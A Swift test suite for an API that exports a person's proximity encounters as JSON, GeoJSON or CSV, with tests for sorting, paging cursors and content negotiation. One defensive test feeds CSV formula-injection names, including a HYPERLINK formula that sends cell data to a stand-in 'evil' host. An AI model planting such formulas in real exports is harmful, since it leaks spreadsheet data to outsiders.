import HTTPServer
import JSON
import Models
import Postgres
import Presence
import RESTTestSupport
import Testing

@testable import ConnectionService

@Suite struct MeetingListTests {
    private static let path = "/api/persons/1/encounters"
    private static let types = "application/json, application/geo+json or text/csv"

    /// Person 1 meets person 2 for long, person 3 and the erased person 4 for less.
    private func fewMeetings() async throws -> InMemoryMeetings {
        let stored =
            try meeting(of: 1, and: 2, at: 0, samples: 20) + meeting(of: 1, and: 4, at: 3_000)
            + meeting(of: 1, and: 3, at: 6_000)
        let (two, three) = (try #require(PersonID(rawValue: 2)), try #require(PersonID(rawValue: 3)))
        let one = try #require(PersonID(rawValue: 1))
        let persons = [someone(one), someone(two, "Ana", "Sün", "Blue & \"Co\""), someone(three, "A,b", "C\nd", "")]
        return await InMemoryMeetings(stored, persons: persons)
    }

    /// The person's meetings, the most significant first.
    private func meetings(_ repository: InMemoryMeetings) async throws -> [PersonMeeting] {
        let one = try #require(PersonID(rawValue: 1))
        let found = try #require(try await repository.meetings(of: one, MeetingQuestion(always), .answer))
        return found.rows.sorted { $0.rank(for: one) < $1.rank(for: one) }.map(\.meeting)
    }

    @Test func listsTheMostSignificantFirst() async throws {
        let repository = try await fewMeetings()
        let answer = try await APIUnderTest(repository).send(.get, Self.path)
        #expect(answer.status == 200)
        #expect(answer.headers["Content-Type"] == "application/json")
        #expect(answer.headers["X-Total-Count"] == "3")
        #expect(answer.headers["Link"] == nil)
        let first = try #require(try await meetings(repository).first)
        let probability = first.probability.roundedToThousandths.shortDescription
        #expect(
            answer.text.hasPrefix(
                #"[{"person":{"id":2,"first_name":"Ana","last_name":"Sün","company_name":"Blue & \"Co\""},"#
                    + #""start":"\#(Timestamp(microseconds: first.start))","#
                    + #""end":"\#(Timestamp(microseconds: first.end))","#
                    + #""duration":\#((Double(first.end - first.start) / 1_000_000).shortDescription),"#
                    + #""together":\#(first.seconds.roundedToTenths.shortDescription),"probability":\#(probability),"#
                    + #""certainty":\#(probability),"distance":0,"#
                    + #""distance_deviation":\#(first.deviation.roundedToTenths.shortDescription),"#
                    + #""fixes":40,"significance":\#(first.evidence.roundedToTenths.shortDescription),"#
                    + #""place":{"longitude":"35.058","latitude":"-10.65721"}},"#
                    + #"{"person":{"id":3,"first_name":"A,b","last_name":"C\nd","company_name":""},"#
                    + #""start":"2020-08-15T12:1"#
            )
        )
        #expect(first.probability > 0.5)
        #expect(try answer.json.elements?.count == 2)
    }

    @Test(arguments: [("Blue%20%26%20%22Co%22", ["2"]), ("", ["3"]), ("blue%20%26%20%22Co%22", []), ("Red", [])])
    func filtersByCompany(company: String, others: [String]) async throws {
        let answer = try await APIUnderTest(await fewMeetings())
            .send(.get, "\(Self.path)?company=\(company)", headers: ["Accept": "text/csv"])
        #expect(answer.status == 200)
        #expect(answer.headers["X-Total-Count"] == String(others.count))
        let rows = answer.text.split(separator: "\r\n").dropFirst()
        #expect(rows.compactMap { $0.split(separator: ",").first } == others.map { $0[...] })
    }

    @Test func writesGeoJSON() async throws {
        let answer = try await APIUnderTest(await fewMeetings())
            .send(.get, Self.path, headers: ["Accept": "application/geo+json"])
        #expect(answer.headers["Content-Type"] == "application/geo+json")
        #expect(answer.headers["Vary"] == "Accept")
        let features = try #require(try answer.json["features"]?.elements)
        #expect(features.count == 2)
        #expect(features[0]["geometry"]?["coordinates"] == .array([.number(35.058), .number(-10.65721)]))
        #expect(features[0]["properties"]?["start"]?.string?.hasSuffix("Z") == true)
        #expect(features[0]["properties"]?["person"]?["last_name"] == .string("Sün"))
        #expect(features[1]["properties"]?["distance"] == .number(0))
    }

    @Test func writesCSV() async throws {
        let answer = try await APIUnderTest(await fewMeetings()).send(.get, Self.path, headers: ["Accept": "text/*"])
        #expect(answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present")
        let lines = answer.text.split(separator: "\r\n")
        let names =
            "person_id,first_name,last_name,company_name,start,end,duration,together,probability,distance,"
            + "distance_deviation,fixes,significance,longitude,latitude,zones,sessions"
        #expect(lines.first == names[...])
        #expect(lines.count == 3)
        #expect(lines[1].hasPrefix("2,Ana,Sün,\"Blue & \"\"Co\"\"\",2020-08-15T10:3"))
        #expect(lines[1].hasSuffix(",35.058,-10.65721,,"))
        #expect(lines[2].hasPrefix("3,\"A,b\",\"C\nd\",,2020-08-15T12:1"))
    }

    @Test(arguments: [
        ("=1+1", "'=1+1"), (#"=HYPERLINK("http://evil/?"&A1)"#, #""'=HYPERLINK(""http://evil/?""&A1)""#),
        ("+49", "'+49"),
        ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "\"'\r=1\""), ("a=1", "a=1"), ("", ""),
    ])
    func escapesFormulasInNames(name: String, field: String) async throws {
        let stored = try meeting(of: 1, and: 2, at: 0)
        let (one, two) = (try #require(PersonID(rawValue: 1)), try #require(PersonID(rawValue: 2)))
        let meetings = await InMemoryMeetings(stored, persons: [someone(one), someone(two, name, "L", name)])
        let answer = try await APIUnderTest(meetings).send(.get, Self.path, headers: ["Accept": "text/csv"])
        #expect(answer.text.contains("\r\n2,\(field),L,\(field),2020-"))
    }

    @Test(arguments: [
        (nil, "application/json"), ("*/*", "application/json"), ("application/*", "application/json"),
        ("text/csv, application/json", "text/csv"), ("application/json;q=0.1, text/csv;q=0.2", "text/csv"),
        ("*/*, application/json;q=0.5", "application/geo+json"), ("text/html, text/*;q=0.1", "text/csv"),
        ("application/*;q=0, */*", "text/csv"), ("text/csv;q=0, */*", "application/json"),
        ("text/csv;q=0.5, application/geo+json;q=0.5", "text/csv"), ("TEXT/CSV ; Q=1", "text/csv"),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/json"),
        ("application/json;q=many", "application/json"),
    ])
    func choosesTheFormatWithTheHighestWeight(accept: String?, type: String) async throws {
        var headers: HTTPHeaders = [:]
        headers["Accept"] = accept
        let answer = try await APIUnderTest(await fewMeetings()).send(.get, Self.path, headers: headers)
        #expect(answer.headers["Content-Type"]?.prefix { $0 != ";" } == Substring(type))
    }

    @Test(arguments: ["text/html", "application/xml", "*/*;q=0", "text/csv;q=0.0", ","])
    func listsTheFormats(accept: String) async throws {
        let answer = try await APIUnderTest(await fewMeetings()).send(.get, Self.path, headers: ["Accept": accept])
        if accept == "," {
            // A field with only a comma names no type, so that the default applies.
            #expect(answer.status == 200)
        } else {
            #expect(answer.status == 406)
            #expect(try answer.errors == ["Accept": ["Expected \(Self.types)."]])
        }
    }

    @Test func isEmptyWithoutMeetings() async throws {
        let one = try #require(PersonID(rawValue: 1))
        let api = try APIUnderTest(await InMemoryMeetings(persons: [someone(one)]))
        #expect(try await api.send(.get, Self.path).text == "[]")
        let csv = try await api.send(.get, Self.path, headers: ["Accept": "text/csv"])
        #expect(csv.text.split(separator: "\r\n").count == 1)
        #expect(try await api.send(.get, "/api/persons/2/encounters").status == 404)
    }

    @Test func streamsManyMeetings() async throws {
        let stored = try (2...1_001).flatMap { try meeting(of: 1, and: Int32($0), at: Int64($0) * 400) }
        let answer = try await APIUnderTest(await InMemoryMeetings(stored)).send(.get, Self.path)
        let rows = try #require(try answer.json.elements)
        #expect(Set(rows.compactMap { $0["person"]?["id"]?.number }) == Set((2...1_001).map(Double.init)))
        let significances = rows.compactMap { $0["significance"]?.number }
        #expect(significances == significances.sorted(by: >))
    }

    @Test(arguments: [1, 2, 3, 10, 11])
    func comesInPages(limit: Int) async throws {
        let stored = try (2...11).flatMap {
            try meeting(of: 1, and: Int32($0), at: Int64($0) * 3_000, samples: Int64($0 % 4) * 2 + 10)
        }
        let api = try APIUnderTest(await InMemoryMeetings(stored))
        let whole = try #require(try await api.send(.get, "\(Self.path)?distance=3&from=2020-01-01").json.elements)
        var (found, pages) = ([JSONValue](), 0)
        var target = "\(Self.path)?distance=3&from=2020-01-01&limit=\(limit)"
        while true {
            let answer = try await api.send(.get, target)
            let page = try #require(try answer.json.elements)
            #expect(answer.headers["X-Total-Count"] == "10")
            found += page
            pages += 1
            guard let link = answer.headers["Link"] else { break }
            #expect(page.count == limit)
            #expect(link.hasPrefix("<\(Self.path)?distance=3&from=2020-01-01&limit=\(limit)&cursor="))
            #expect(link.hasSuffix(">; rel=\"next\""))
            target = String(link.dropFirst().prefix { $0 != ">" })
        }
        #expect(found == whole)
        #expect(pages == (10 + limit - 1) / limit)
    }

    @Test func continuesAfterThePageDespiteChanges() async throws {
        // The longest with person 2, the shortest with person 9.
        let repository = await InMemoryMeetings(
            try (2...9).flatMap {
                try meeting(of: 1, and: Int32($0), at: Int64($0) * 6_000, samples: 40 - Int64($0) * 3)
            }
        )
        let api = try APIUnderTest(repository)
        let first = try await api.send(.get, "\(Self.path)?limit=4")
        #expect(try first.json.elements?.compactMap { $0["person"]?["id"]?.number } == [2, 3, 4, 5])
        let link = try #require(first.headers["Link"])
        // One new meeting before the page, one after all of them, and one from the next page that gets longer.
        await repository.add(
            try meeting(of: 1, and: 20, at: 70_000, samples: 50) + meeting(of: 1, and: 21, at: 80_000, samples: 6)
        )
        await repository.add(try meeting(of: 1, and: 7, at: 7 * 6_000 + 570, samples: 30))
        let second = try await api.send(.get, String(link.dropFirst().prefix { $0 != ">" }))
        let ids = try second.json.elements?.compactMap { $0["person"]?["id"]?.number }
        #expect(ids == [6, 8, 9, 21])
    }

    @Test(arguments: [
        "x", "", "0", "40717eae147ae148000650f0ca5cd4000000000", "40717eae147ae148000650f0ca5cd40000000000",
        "40717EAE147AE148000650F0CA5CD40000000007", "7ff8000000000000000650f0ca5cd40000000007",
        "c0717eae147ae148000650f0ca5cd40000000007", "40717eae147ae148000650f0ca5cd400ffffffff",
    ])
    func rejectsInvalidCursors(cursor: String) async throws {
        let answer = try await APIUnderTest(await fewMeetings()).send(.get, "\(Self.path)?cursor=\(cursor)")
        #expect(answer.status == 400)
        #expect(try answer.errors == ["cursor": ["Expected a cursor from the Link header of another page."]])
    }

    @Test func roundTripsCursors() throws {
        for (significance, start, other) in [(0.0, 0, 1), (279.93, 1_597_487_826_000_001, Int32.max), (1e300, -1, 7)] {
            let rank = MeetingRank(
                significance: significance,
                start: Timestamp(microseconds: Int64(start)),
                other: try #require(PersonID(rawValue: other))
            )
            #expect(MeetingCursor(pathParameter: MeetingCursor(rank: rank).text[...])?.rank == rank)
        }
    }

    @Test func answersUnavailableWithoutTheDatabase() async throws {
        let away = PostgresError(.acquireTimeout, "Every connection is in use.")
        let api = try APIUnderTest(await InMemoryMeetings(failure: away))
        for target in [Self.path, "/api/encounters?from=2020-08-15&to=2020-08-16", "\(Self.path)/2/evidence"] {
            let answer = try await api.send(.get, target)
            #expect(answer.status == 503)
            #expect(answer.headers["Retry-After"] == "1")
        }
    }
}
